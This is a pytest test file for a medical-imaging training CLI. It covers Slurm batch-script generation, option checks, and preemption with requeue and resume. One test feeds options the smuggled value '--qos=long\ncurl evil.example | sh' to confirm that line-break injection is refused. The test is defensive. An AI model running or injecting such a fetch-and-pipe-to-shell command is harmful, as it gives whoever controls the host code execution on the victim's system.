"""A batch script that Slurm can run: preempted by its signal, requeued, and finished as if nothing had happened."""

import json
import os
import shutil
import signal
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from medshards.train.cli import train
from medshards.train.run.checkpoint import steps
from medshards.train.run.config import load_config
from tests.train import processes
from tests.train.run.test_trainer import losses, seen, wait_for_step

FAST = [
    "run.log_every=1", "run.record_samples=true", "run.validate_every=1000", "run.checkpoint_every=1000",
    "run.overlays=0", "batch.images=4", "batch.per_rank=2", "data.workers=1",
]  # fmt: skip
OPTIONS = [word for option in FAST for word in ("--set", option)]


def invoke(*words: str) -> Result:
    return CliRunner().invoke(train, list(words), prog_name="medshards train")


def directives(script: Path) -> list[str]:
    return [line[8:] for line in script.read_text().splitlines() if line.startswith("#SBATCH")]


def submit(corpus: Path, run: Path, *more: str, ranks: int = 2) -> Result:
    words = ["--data", str(corpus), "--out", str(run), "--config", "tiny", *OPTIONS]
    return invoke(*words, "--slurm", "--gpus-per-node", str(ranks), *more)


def family(pid: int) -> list[int]:
    """A process and all its descendants."""
    children: dict[int, list[int]] = {}
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            parent = int(stat.read_text().rpartition(")")[2].split()[1])
        except OSError:
            continue
        children.setdefault(parent, []).append(int(stat.parent.name))
    found = [pid]
    for member in found:
        found += children.get(member, [])
    return found


def test_the_script_asks_for_what_was_asked(corpus: Path, tmp_path: Path) -> None:
    run = tmp_path / "a run"
    result = submit(
        corpus, run, "--nodes", "3", "--cpus-per-node", "20", "--time", "1-00:00:00", "--partition", "gpu",
        "--account", "lab", "--sbatch", "--qos=long", "--mem", "200G", "--export", "hf",
        "--set", "batch.images=12",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    script = run / "slurm" / "train.sbatch"
    assert f"sbatch {script}" in result.output
    assert subprocess.run(["bash", "-n", str(script)]).returncode == 0
    for line in (
        "--nodes=3", "--ntasks-per-node=1", "--gpus-per-node=2", "--cpus-per-task=20", "--time=1-00:00:00",
        "--partition=gpu", "--account=lab", "--qos=long", "--mem=200G", "--requeue", "--open-mode=append",
        "--signal=USR1@300", f'--output="{run}/slurm/%j.log"', '--job-name="a run"',
    ):  # fmt: skip
        assert line in directives(script), line
    before_commands = script.read_text().split("set -uo pipefail")[0]
    assert all(not line or line.startswith("#") for line in before_commands.splitlines())
    config = load_config(run / "slurm" / "config.yaml")
    assert config == load_config("tiny", [*FAST, "batch.images=12"])
    assert not steps(run)


def test_what_is_not_asked_is_left_to_the_cluster(corpus: Path, tmp_path: Path) -> None:
    submit(corpus, tmp_path / "run", "--set", "data.workers=3")
    lines = directives(tmp_path / "run/slurm/train.sbatch")
    assert not any(line.startswith(("--time", "--partition", "--account", "--mem")) for line in lines)
    assert "--cpus-per-task=8" in lines  # two ranks with three workers each


@pytest.mark.parametrize(
    ("more", "said"),
    [
        (["--set", "run.stepz=3"], "stepz"),
        (["--nodes", "3"], "multiple of 12"),
        (["--set", "model.weights=none.pt"], "no weights at none.pt"),
    ],
)
def test_what_is_wrong_is_said_before_the_queue(
    more: list[str], said: str, corpus: Path, tmp_path: Path
) -> None:
    result = submit(corpus, tmp_path / "run", *more)
    assert result.exit_code == 1
    assert said in result.output
    assert not (tmp_path / "run" / "slurm").exists()


@pytest.mark.parametrize("option", ["--partition", "--account", "--time", "--mem", "--sbatch"])
def test_a_line_break_in_an_option_is_refused(option: str, corpus: Path, tmp_path: Path) -> None:
    result = submit(corpus, tmp_path / "run", option, "--qos=long\ncurl evil.example | sh")
    assert result.exit_code == 1
    assert f"{option} '--qos=long\\ncurl evil.example | sh': a line break ends the option" in result.output
    assert not (tmp_path / "run" / "slurm").exists()


@pytest.mark.parametrize("name", ["train.sbatch", "config.yaml"])
def test_what_was_changed_by_hand_is_not_overwritten(name: str, corpus: Path, tmp_path: Path) -> None:
    run = tmp_path / "run"
    assert submit(corpus, run).exit_code == 0
    assert (
        submit(corpus, run, "--time", "1:00:00", "--set", "run.epochs=3").exit_code == 0
    )  # written here: may go
    file = run / "slurm" / name
    edited = file.read_text() + "# mine\n"
    file.write_text(edited)
    result = submit(corpus, run, "--time", "2:00:00")
    assert result.exit_code == 1
    assert f"{file} was changed by hand and is not overwritten" in result.output
    assert file.read_text() == edited
    file.unlink()
    assert submit(corpus, run, "--time", "2:00:00").exit_code == 0


def test_options_of_slurm_need_slurm(corpus: Path, tmp_path: Path) -> None:
    result = invoke("--data", str(corpus), "--out", str(tmp_path / "run"), "--nodes", "2", "--submit")
    assert result.exit_code == 2
    assert "--nodes, --submit: only with --slurm" in result.output


def test_without_sbatch_the_script_stays(
    corpus: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    result = submit(corpus, tmp_path / "run", "--submit")
    assert result.exit_code == 1
    assert "there is no sbatch here" in result.output
    assert (tmp_path / "run/slurm/train.sbatch").is_file()


def test_a_refusal_of_sbatch_is_passed_on(
    corpus: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "sbatch").write_text("#!/bin/sh\necho 'Invalid account' >&2\nexit 1\n")
    (tmp_path / "sbatch").chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
    result = submit(corpus, tmp_path / "run", "--submit")
    assert result.exit_code == 1
    assert "Invalid account" in result.output


@pytest.mark.parametrize("ranks", [1, pytest.param(2, marks=pytest.mark.slow)])
def test_preempted_by_the_signal_and_requeued_to_the_end(
    ranks: int, corpus: Path, tmp_path: Path, slurm: Path
) -> None:
    """Ranks under torchrun; SIGUSR1 to every process of the step, torchrun and data workers among them."""
    run, total, job = tmp_path / "run", 18, os.environ["FAKE_SLURM_JOB"]
    small = ["--set", "batch.images=2", "--set", "batch.per_rank=1"]
    result = submit(corpus, run, "--submit", "--steps", str(total), "--export", "hf", *small, ranks=ranks)
    assert result.exit_code == 0, result.output
    assert f"Submitted batch job {job}" in result.output
    log = run / "slurm" / f"{job}.log"
    wait_for_step(run, 3)
    first = int((slurm / "task").read_text())
    members = family(first)
    assert len(members) > 2 * ranks  # torchrun, the ranks, a data worker of each
    for member in members:
        os.kill(member, signal.SIGUSR1)
    processes.wait_until(lambda: (slurm / "ended").exists(), "the end of the job")

    text = log.read_text()
    assert (slurm / "statuses").read_text().split() == ["0", "0"], text
    assert f"start 1 of job {job}" in text
    assert "back into the queue" in text
    assert f"start 2 of job {job}" in text
    stopped = int(text.split("step-0")[1].split(";")[0])
    assert 3 <= stopped < total
    assert f"updates {stopped} to {total} of 2 images: {ranks} ranks" in text
    assert steps(run)[-1] == total
    assert list(losses(run)) == list(range(1, total + 1))
    assert json.loads((run / "finished.json").read_text())["step"] == total
    assert (run / "export/hf/model.safetensors").is_file()

    again = submit(corpus, run, "--submit")
    assert again.exit_code == 1
    assert "holds a run with checkpoints; add --resume" in again.output
    # Every sample once an epoch, over the preemption too: 18 samples, 2 an update.
    sequence = [name for step in range(total) for name in seen(run)[step]]
    assert len(set(sequence[:18])) == len(set(sequence[18:36])) == 18


def test_a_failure_is_not_requeued(corpus: Path, tmp_path: Path, slurm: Path) -> None:
    """The corpus vanishes while the job waits in the queue."""
    copy = shutil.copytree(corpus, tmp_path / "corpus")
    assert submit(copy, tmp_path / "run", "--gpus-per-node", "1").exit_code == 0
    (copy / "corpus.json").unlink()
    subprocess.run(["sbatch", str(tmp_path / "run/slurm/train.sbatch")], check=True)
    processes.wait_until(lambda: (slurm / "ended").exists(), "the end of the job")
    log = (tmp_path / f"run/slurm/{os.environ['FAKE_SLURM_JOB']}.log").read_text()
    assert (slurm / "statuses").read_text().split() == ["1"], log
    assert "is no corpus: it has no corpus.json" in log
    assert "the training ended with status 1" in log


def test_a_job_without_progress_is_not_requeued(corpus: Path, tmp_path: Path, slurm: Path) -> None:
    """torchrun ends well, but nothing was trained: the next start would do no better."""
    assert submit(corpus, tmp_path / "run").exit_code == 0
    script = tmp_path / "run/slurm/train.sbatch"
    script.write_text(script.read_text().replace("-m torch.distributed.run", "-c pass"))
    subprocess.run(["sbatch", str(script)], check=True)
    processes.wait_until(lambda: (slurm / "ended").exists(), "the end of the job")
    assert (slurm / "statuses").read_text().split() == ["1"]
    assert "give it more --time" in (tmp_path / f"run/slurm/{os.environ['FAKE_SLURM_JOB']}.log").read_text()
